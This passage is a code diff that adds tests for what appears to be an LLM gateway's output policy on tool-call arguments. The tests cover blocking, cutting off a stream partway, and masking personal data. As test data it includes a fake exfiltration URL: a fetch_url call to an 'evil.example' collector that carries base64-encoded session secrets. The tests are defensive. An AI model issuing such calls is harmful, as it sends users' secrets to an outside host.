@@ -480,6 +480,115 @@ describe('completions and embeddings', () => {
   });
 });
 
+describe('tool calls', () => {
+  const LEAK_URL = 'https://collect.evil.example/c?d=c2Vzc2lvbiBzZWNyZXQgZGF0YSBoZXJl';
+  const call = (args: string) => ({
+    id: 'call_1',
+    type: 'function',
+    function: { name: 'fetch_url', arguments: args },
+  });
+  const toolUpstream = (args: string) =>
+    startStubUpstream({
+      handler: (_req, body, res) => {
+        if ((body as { stream?: boolean }).stream) {
+          res.writeHead(200, { 'content-type': 'text/event-stream' });
+          const first = {
+            choices: [{ index: 0, delta: { role: 'assistant', tool_calls: [{ index: 0, ...call('') }] } }],
+          };
+          res.write(`data: ${JSON.stringify(first)}\n\n`);
+          for (let i = 0; i < args.length; i += 12) {
+            const piece = {
+              choices: [
+                {
+                  index: 0,
+                  delta: { tool_calls: [{ index: 0, function: { arguments: args.slice(i, i + 12) } }] },
+                },
+              ],
+            };
+            res.write(`data: ${JSON.stringify(piece)}\n\n`);
+          }
+          res.end('data: [DONE]\n\n');
+          return;
+        }
+        const text = JSON.stringify({
+          id: 'c1',
+          object: 'chat.completion',
+          choices: [
+            {
+              index: 0,
+              message: { role: 'assistant', content: null, tool_calls: [call(args)] },
+              finish_reason: 'tool_calls',
+            },
+          ],
+        });
+        res.writeHead(200, { 'content-type': 'application/json' });
+        res.end(text);
+      },
+    });
+
+  test("a tool call's arguments get the output policy: an exfiltration URL blocks, personal data is masked", async () => {
+    for (const [args, expect] of [
+      [JSON.stringify({ url: LEAK_URL }), 'block'],
+      [JSON.stringify({ url: 'https://docs.python.org/3/library/json.html' }), 'allow'],
+      [JSON.stringify({ to: 'jane.doe@example.com', body: 'hello' }), 'redact'],
+    ] as const) {
+      const h = await harness({ policy: 'default' }, {}, await toolUpstream(args));
+      try {
+        const r = await chat(h, 'Please look this up for me.');
+        if (expect === 'block') {
+          assert.equal(r.status, 400, r.text);
+          assert.equal(
+            (r.json as { error: { param: string } }).error.param,
+            'choices[0].message.tool_calls[0].function.arguments',
+          );
+        } else {
+          assert.equal(r.status, 200, r.text);
+          const sent = (
+            r.json as { choices: { message: { tool_calls: { function: { arguments: string } }[] } }[] }
+          ).choices[0]!.message.tool_calls[0]!.function.arguments;
+          if (expect === 'allow') assert.equal(sent, args);
+          else {
+            assert.doesNotMatch(sent, /jane\.doe@example\.com/);
+            assert.equal(JSON.parse(sent).body, 'hello', 'the arguments stay JSON');
+          }
+        }
+      } finally {
+        await h.close();
+      }
+    }
+  });
+
+  test('a streamed tool call is cut off before the piece that completes a violation', async () => {
+    const args = JSON.stringify({ url: LEAK_URL });
+    const h = await harness({ policy: 'default' }, {}, await toolUpstream(args));
+    try {
+      const r = await chat(h, 'Please look this up for me.', { stream: true });
+      assert.match(r.text, /event: error/);
+      assert.doesNotMatch(r.text, /\[DONE\]/);
+      const sentArgs = r.text
+        .split('\n\n')
+        .filter((l) => l.startsWith('data: {'))
+        .map((l) => JSON.parse(l.slice(6)).choices?.[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? '')
+        .join('');
+      assert.ok(!sentArgs.includes('c2Vzc2lvbiBzZWNyZXQ'), `sent: ${sentArgs}`);
+    } finally {
+      await h.close();
+    }
+    const fine = await harness(
+      { policy: 'default' },
+      {},
+      await toolUpstream(JSON.stringify({ city: 'Paris' })),
+    );
+    try {
+      const r = await chat(fine, 'Weather?', { stream: true });
+      assert.match(r.text, /\[DONE\]/);
+      assert.doesNotMatch(r.text, /event: error/);
+    } finally {
+      await fine.close();
+    }
+  });
+});
+
 describe('fail closed', () => {
   test('a guard thread that does not answer in time blocks the request (and passes it when the route fails open)', async () => {
     // 1 ms is far less than a check of ~100 KB takes, so every such check times out (a thread's start-up
